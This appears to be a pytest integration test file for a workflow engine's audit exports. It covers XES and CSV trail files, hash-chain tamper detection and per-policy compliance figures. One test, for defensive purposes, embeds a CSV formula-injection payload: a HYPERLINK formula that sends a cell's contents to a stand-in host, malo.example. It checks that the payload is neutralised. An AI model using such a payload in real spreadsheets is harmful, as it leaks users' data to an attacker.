"""The quality office's view: trail exports (CSV, XES) and compliance per policy."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable
from html import escape
from pathlib import Path

import pytest
from lxml import etree
from sqlalchemy import func, select

from engine import Engine, ValidationError
from engine.audit.export_check import verify_export
from engine.audit.indicators import compliance
from engine.audit.quality import export_csv, export_xes
from storage.models import AuditEvent, Case
from tests.helpers import complete
from tests.integration.scenario_run import ScenarioRun
from tests.integration.test_script_incidents import SCRIPTS


def test_the_xes_log_has_one_trace_per_case_with_named_timestamped_activities(
    scenario_run: ScenarioRun,
) -> None:
    keys = scenario_run.business_keys("P001")
    with scenario_run.engine.sessions() as session:
        log = etree.fromstring(export_xes(session, "P001"))
    traces = log.findall("trace")
    assert [t.find("string[@key='concept:name']").get("value") for t in traces] == keys
    first = [e.find("string[@key='concept:name']").get("value") for e in traces[0].findall("event")]
    assert first[:3] == ["Invitación recibida", "Proponer delegado", "Aprobar delegación"]
    assert "Diligenciar ficha técnica de delegación" in first
    assert not any(name.startswith("gw_") for name in first)  # gateways are not activities
    for event in traces[0].findall("event"):
        assert event.find("date[@key='time:timestamp']").get("value").endswith("+00:00")
        assert event.find("string[@key='org:resource']").get("value")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_csv_has_every_audit_event_with_its_previous_hash_and_payload(
    scenario_run: ScenarioRun,
) -> None:
    keys = scenario_run.business_keys("P001")
    with scenario_run.engine.sessions() as session:
        text = export_csv(session, "P001")
        stored = session.scalar(
            select(func.count())
            .select_from(AuditEvent)
            .join(Case, Case.id == AuditEvent.case_id)
            .where(Case.business_key.in_(keys))
        )
    assert text.startswith("\ufeffCaso,Id del caso,Procedimiento,Versión,Secuencia")
    rows = _rows(text)
    assert len(rows) == stored  # every event, not only the activities
    assert {row["Caso"] for row in rows} == set(keys)
    assert all(len(row["Hash"]) == 64 and len(row["Hash anterior"]) == 64 for row in rows)
    first = [row for row in rows if row["Caso"] == keys[0]]
    assert [row["Secuencia"] for row in first][:3] == ["1", "2", "3"]
    assert first[1]["Hash anterior"] == first[0]["Hash"]
    assert json.loads(first[0]["Datos (JSON)"])["data"]["instancia"]


def test_an_exported_trail_verifies_offline_and_an_edited_cell_is_named(
    scenario_run: ScenarioRun,
) -> None:
    keys = scenario_run.business_keys("P001")
    with scenario_run.engine.sessions() as session:
        text = export_csv(session, "P001")
    report = verify_export(text)
    assert report.ok and report.cases == len(keys)
    edited = _rewrite(text, lambda rows: rows[3].update({"Actor": "intruso"}))
    broken = verify_export(edited)
    assert [(link.business_key, link.seq) for link in broken.broken] == [(keys[0], 4)]
    assert "su contenido fue modificado" in broken.broken[0].reason
    removed = _rewrite(text, lambda rows: rows.pop(2))
    assert "falta el evento #3" in verify_export(removed).broken[0].reason


def _rewrite(text: str, change: Callable[[list[dict[str, str]]], object]) -> str:
    rows = _rows(text)
    change(rows)
    output = io.StringIO()
    writer = csv.DictWriter(output, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return "\ufeff" + output.getvalue()


def test_a_file_that_is_not_a_trail_export_is_refused_in_spanish() -> None:
    with pytest.raises(ValidationError, match="no es una exportación de la traza"):
        verify_export("case,seq\nP001-2026-00001,1\n")


def test_every_scenario_lands_in_the_policy_figures(scenario_run: ScenarioRun) -> None:
    with scenario_run.engine.sessions() as session:
        figures = {f.policy: f for f in compliance(session, scenario_run.clock.now())}
    assert figures["3"].measured >= 4 and figures["3"].non_compliant >= 1  # one ficha came late
    assert figures["2"].compliant >= 1 and figures["2"].percent == 100
    assert figures["2"].bucket("devoluciones").items  # the scenarios return acts for adjustment
    assert figures["4"].compliant >= 1 and figures["4"].non_compliant == 0
    assert figures["1"].compliant >= 1


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(
    engine: Engine, tmp_path: Path, lead: str
) -> None:
    """An element name from an analyst's diagram reaches the quality office's spreadsheet: a
    leading =, +, -, @, tab or CR is prefixed with ' so it stays text."""
    name = f'{lead}HYPERLINK("https://malo.example/?d="&A1,"Ver")'
    attribute = escape(name, quote=True).replace("\t", "&#9;").replace("\r", "&#13;")
    bpmn = tmp_path / "bpmn" / "SCRIPTS.bpmn"
    bpmn.parent.mkdir()
    bpmn.write_text(
        SCRIPTS.read_text().replace('name="Repartir el presupuesto"', f'name="{attribute}"')
    )
    shutil.copytree(SCRIPTS.parent.parent / "forms", tmp_path / "forms")
    engine.deploy([bpmn], "analista")
    key = engine.start("SCRIPTS", "despacho", {})
    complete(engine, key, "repartir", "despacho", {"partes": 4})
    with engine.sessions() as session:
        text = export_csv(session, "SCRIPTS")
    rows = _rows(text)
    names = {row["Nombre del elemento"] for row in rows if row["Elemento"] == "repartir"}
    assert names == {"'" + name}
    assert {row["Caso"] for row in rows} == {key}  # plain cells are left as they are
    assert verify_export(text).ok  # the protected cells still verify


def test_pm4py_reads_the_xes_log_and_discovers_the_models_activities(
    scenario_run: ScenarioRun, tmp_path: Path
) -> None:
    pm4py = pytest.importorskip(
        "pm4py"
    )  # a dev dependency (AGPL-3.0), never imported by the product
    keys = scenario_run.business_keys("P001")
    path = tmp_path / "traza.xes"
    with scenario_run.engine.sessions() as session:
        path.write_bytes(export_xes(session, "P001"))
    log = pm4py.read_xes(str(path))
    assert sorted(set(log["case:concept:name"])) == sorted(keys)
    assert {"org:resource", "org:group", "time:timestamp", "lifecycle:transition"} <= set(log)
    assert "despacho_gobierno" in set(log["org:group"].dropna())
    net, _initial, _final = pm4py.discover_petri_net_inductive(log)
    discovered = {t.label for t in net.transitions if t.label}
    assert {
        "Proponer delegado",
        "Aprobar delegación",
        "Diligenciar ficha técnica de delegación",
    } <= discovered
